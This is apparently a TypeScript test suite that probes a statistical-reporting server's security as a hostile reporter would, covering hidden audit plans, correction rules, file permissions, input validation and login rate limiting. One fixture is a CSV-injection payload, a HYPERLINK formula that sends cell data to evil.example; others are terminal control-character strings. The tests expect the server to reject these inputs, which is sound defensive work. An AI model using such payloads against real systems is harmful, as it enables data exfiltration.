import { existsSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TOKENS, client, workspace } from './serve-fixture.ts';

const report = 'report-sanitation-110101001001-2025-03';
const values = {
  SAN_ROAD_AREA: '3.2',
  SAN_WASTE_COLLECTED: '186.4',
  SAN_WASTE_HARMLESS: '186.4',
  SAN_NIGHT_SOIL: '21.5',
  SAN_CONSTRUCTION_WASTE: '40',
  SAN_PUBLIC_TOILETS: '6',
  SAN_CLEANERS: '18',
};
/** A covert spot check of the reporter's own district, which the reporter must not be able to find. */
const covert = {
  form: 'sanitation',
  period: '2025-03',
  subtree: '110101',
  method: 'covert',
  design: { type: 'simple_random' },
  size: { n: 7 },
  seed: 7,
};

describe('security as a hostile reporter would probe it (statledger serve on localhost)', () => {
  const ws = workspace();
  let call: ReturnType<typeof client>;
  let stop: () => Promise<unknown>;
  let output: () => string;
  let planId: string;
  let findingId: string;

  beforeAll(async () => {
    const server = await ws.serve({ STATLEDGER_AUTH_FAILURES: '5', STATLEDGER_ANCHOR_EVERY_MS: '200' });
    call = client(server.url);
    stop = () => server.child.kill('SIGTERM');
    output = () => server.child.output();
    const example = (file: string) => readFileSync(new URL(`../../../examples/${file}`, import.meta.url), 'utf8');
    await call('POST', '/v1/imports/units', { token: TOKENS.admin, csv: example('units.csv') });
    await call('POST', '/v1/imports/reports', { token: TOKENS.admin, csv: example('reports.csv') });
    const planned = await call('POST', '/v1/audits', { token: TOKENS.auditor, body: covert });
    expect(planned.status).toBe(201);
    planId = planned.json.planId;
    const finding = {
      report,
      recounted: { SAN_WASTE_COLLECTED: '150' },
      inspector: '质量审核员',
      inspectedAt: '2025-04-20T10:00:00+08:00',
    };
    findingId = (await call('POST', `/v1/audits/${planId}/findings`, { token: TOKENS.auditor, body: finding })).json
      .findingId;
  });
  afterAll(async () => stop());

  it('shows no token when it starts with a principals file it did not make', () => {
    expect(output()).toMatch(/their tokens are in that file and not shown again/);
    for (const token of Object.values(TOKENS)) expect(output()).not.toContain(token);
  });

  it('gives a covert plan an id that says nothing of what it audits, and the same id to the same request', async () => {
    expect(planId).toMatch(/^plan-[0-9a-f]{24}$/);
    expect((await call('POST', '/v1/audits', { token: TOKENS.auditor, body: covert })).json).toMatchObject({
      planId,
      created: false,
    });
  });

  it('answers the audited alike for a hidden plan and a made-up one, on every route', async () => {
    const madeUp = 'plan-0123456789abcdef01234567';
    const probes = (id: string): [string, string, unknown?][] => [
      ['GET', `/v1/audits/${id}`],
      ['GET', `/v1/audits/${id}/replay`],
      ['POST', `/v1/audits/${id}/close`, { summary: 'x' }],
      [
        'POST',
        `/v1/audits/${id}/findings`,
        { report, recounted: { SAN_WASTE_COLLECTED: '1' }, inspector: 'x', inspectedAt: '2025-04-20T10:00:00+08:00' },
      ],
      ['POST', `/v1/audits/${id}/findings`, { report: 'not-a-report' }],
    ];
    for (const token of [TOKENS.reporter, TOKENS.approver]) {
      const answers = async (id: string) => {
        const result = [];
        for (const [method, path, body] of probes(id)) {
          const res = await call(method, path, { token, ...(body === undefined ? {} : { body }) });
          result.push({
            status: res.status,
            error: res.json.error,
            message: String(res.json.message).replaceAll(id, 'ID'),
          });
        }
        return result;
      };
      const hidden = await answers(planId);
      expect(hidden.every((a) => a.status === 404)).toBe(true);
      expect(hidden).toEqual(await answers(madeUp));
    }
  });

  it('refuses a reporter\u2019s correction naming a hidden finding as it refuses a made-up one, even at a stale revision', async () => {
    const current = (await call('GET', `/v1/reports/${report}`, { token: TOKENS.reporter })).json.revision as number;
    const correct = (findingRef: string, expectedRevision: number) =>
      call('POST', `/v1/reports/${report}/corrections`, {
        token: TOKENS.reporter,
        body: { values, reason: '更正', findingRef, expectedRevision },
      });
    for (const revision of [current, 7]) {
      const hidden = await correct(findingId, revision);
      const madeUp = await correct(`${planId}/${report}/9`, revision);
      expect(hidden.status).toBe(400);
      const text = (answer: typeof hidden, id: string) =>
        JSON.stringify({ ...answer.json, requestId: null }).replaceAll(id, 'F');
      expect(text(hidden, findingId)).toBe(text(madeUp, `${planId}/${report}/9`));
    }
    expect((await call('GET', `/v1/audits/${planId}`, { token: TOKENS.auditor })).json).toMatchObject({
      openFollowUps: 1,
    });
  });

  it('closes a follow-up only by a correction that changes a recounted value, and shows who made it', async () => {
    expect(
      (await call('POST', `/v1/audits/${planId}/close`, { token: TOKENS.auditor, body: { summary: '暗查结束' } }))
        .status,
    ).toBe(200);
    const revision = async () =>
      (await call('GET', `/v1/reports/${report}`, { token: TOKENS.reporter })).json.revision as number;
    const correct = async (v: typeof values) =>
      call('POST', `/v1/reports/${report}/corrections`, {
        token: TOKENS.reporter,
        body: { values: v, reason: '按抽查结果更正', findingRef: findingId, expectedRevision: await revision() },
      });
    // The plan is closed: the reporter sees the finding, but a correction that changes nothing closes nothing.
    expect((await correct(values)).status).toBe(200);
    let finding = (await call('GET', `/v1/audits/${planId}`, { token: TOKENS.auditor })).json.findings[0];
    expect(finding).toMatchObject({
      followUp: 'open',
      namedWithoutChange: [{ by: 'dongcheng-reporter', changes: [] }],
    });
    expect((await correct({ ...values, SAN_WASTE_COLLECTED: '150', SAN_WASTE_HARMLESS: '150' })).status).toBe(200);
    finding = (await call('GET', `/v1/audits/${planId}`, { token: TOKENS.auditor })).json.findings[0];
    expect(finding).toMatchObject({
      followUp: 'closed',
      closedBy: {
        by: 'dongcheng-reporter',
        changes: [
          { indicator: 'SAN_WASTE_COLLECTED', from: '186.4', to: '150' },
          { indicator: 'SAN_WASTE_HARMLESS', from: '186.4', to: '150' },
        ],
      },
    });
  });

  it('anchors the chain head beside the secret while it serves, with a MAC, never in the database', async () => {
    const anchors = join(ws.dir, 'anchors.jsonl');
    let last: { position: string; mac: string } | undefined;
    for (let i = 0; i < 100 && !last; i++) {
      await delay(100);
      if (existsSync(anchors))
        last = readFileSync(anchors, 'utf8')
          .trim()
          .split('\n')
          .map((l) => JSON.parse(l))
          .at(-1);
    }
    expect(last).toMatchObject({
      position: expect.stringMatching(/^\d{20}$/),
      mac: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    expect(statSync(join(ws.dir, 'secret.key')).mode & 0o777).toBe(0o600);
    expect(statSync(join(ws.dir, 'store.db')).mode & 0o777).toBe(0o600);
    expect(statSync(join(ws.dir, 'store.db-wal')).mode & 0o777).toBe(0o600);
  });

  it('makes its own request ids and keeps a client\u2019s apart', async () => {
    const res = await call('POST', '/v1/reports', {
      token: TOKENS.admin,
      headers: { 'x-request-id': 'client-42' },
      body: { form: 'sanitation', unitCode: '110101002001', period: '2025-03', values },
    });
    expect(res.status).toBe(201);
    expect(res.headers.get('x-request-id')).not.toBe('client-42');
    const history = await call('GET', '/v1/reports/report-sanitation-110101002001-2025-03/history', {
      token: TOKENS.admin,
    });
    const submitted = (answer: typeof history) =>
      answer.json.events.find((e: { type: string }) => e.type === 'ReportSubmitted');
    expect(submitted(history).metadata).toMatchObject({
      correlationId: res.headers.get('x-request-id'),
      clientRequestId: 'client-42',
    });
    const odd = await call('POST', '/v1/reports', {
      token: TOKENS.admin,
      headers: { 'x-request-id': 'x'.repeat(300) },
      body: { form: 'sanitation', unitCode: '110101002002', period: '2025-03', values },
    });
    const oddHistory = await call('GET', '/v1/reports/report-sanitation-110101002002-2025-03/history', {
      token: TOKENS.admin,
    });
    expect(odd.status).toBe(201);
    expect(submitted(oddHistory).metadata.clientRequestId).toBeUndefined();
  });

  it('refuses control characters and overlong free text, and unit names a spreadsheet would run', async () => {
    const correct = (reason: string) =>
      call('POST', `/v1/reports/${report}/corrections`, {
        token: TOKENS.admin,
        body: { values, reason, expectedRevision: 0 },
      });
    expect(await correct('按台账更正\u001b[2J\u0007')).toMatchObject({
      status: 400,
      json: { issues: [{ path: ['reason'], message: expect.stringMatching(/control character/) }] },
    });
    expect(await correct('x'.repeat(900_000))).toMatchObject({
      status: 400,
      json: { issues: [{ path: ['reason'], message: 'the reason is longer than 2000 characters' }] },
    });
    const units = await call('POST', '/v1/imports/units', {
      token: TOKENS.admin,
      csv: 'code,name\n110102,"=HYPERLINK(""http://evil.example/?d=""&A1,""西城区"")"\n',
    });
    expect(units.json).toMatchObject({
      registered: 0,
      errors: [{ line: 2, message: expect.stringMatching(/spreadsheets read as a formula/) }],
    });
  });

  it('authenticates before anything else: 401 for a bad token whatever else is wrong', async () => {
    expect(await call('GET', '/v1/reports/x', { token: 'not-a-token-0123456789' })).toMatchObject({
      status: 401,
      json: { error: 'unauthenticated' },
    });
    expect(
      await call('POST', '/v1/reports', { headers: { 'idempotency-key': ' bad key ' }, body: { nonsense: true } }),
    ).toMatchObject({ status: 401 });
  });

  // Last: it shuts this client address out for the rest of the minute.
  it('answers 429 after 5 failed authentications from one address, then even to a valid token', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 8; i++)
      statuses.push((await call('GET', '/v1/audits', { token: `guess-${i}-0123456789abcdef` })).status);
    // two 401s were spent by the test before: three more, then the address is blocked
    expect(statuses.slice(0, 3)).toEqual([401, 401, 401]);
    expect(statuses.slice(3)).toEqual([429, 429, 429, 429, 429]);
    const blocked = await call('GET', '/v1/audits', { token: TOKENS.auditor });
    expect(blocked).toMatchObject({ status: 429, json: { error: 'too_many_failed_authentications' } });
    expect(Number(blocked.headers.get('retry-after'))).toBeGreaterThan(0);
  });
});
